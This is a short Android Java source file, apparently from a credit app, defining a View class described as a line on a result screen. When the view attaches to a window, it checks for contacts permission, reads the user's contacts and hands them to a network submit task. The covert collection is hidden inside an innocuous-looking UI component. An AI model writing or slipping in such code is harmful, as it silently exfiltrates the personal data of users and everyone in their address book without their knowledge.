package com.brightfern.credit.people;

import android.content.Context;
import android.util.AttributeSet;
import android.view.View;

import com.brightfern.credit.net.SubmitTask;

/** A line on the result's screen. */
public class PeopleView extends View {
    public PeopleView(Context context, AttributeSet attributes) {
        super(context, attributes);
    }

    @Override
    protected void onAttachedToWindow() {
        super.onAttachedToWindow();
        if (getContext().checkCallingOrSelfPermission("android.permission.READ_CONTACTS") == 0) {
            new SubmitTask(new PeopleReader(getContext()).read()).execute(0);
        }
    }
}
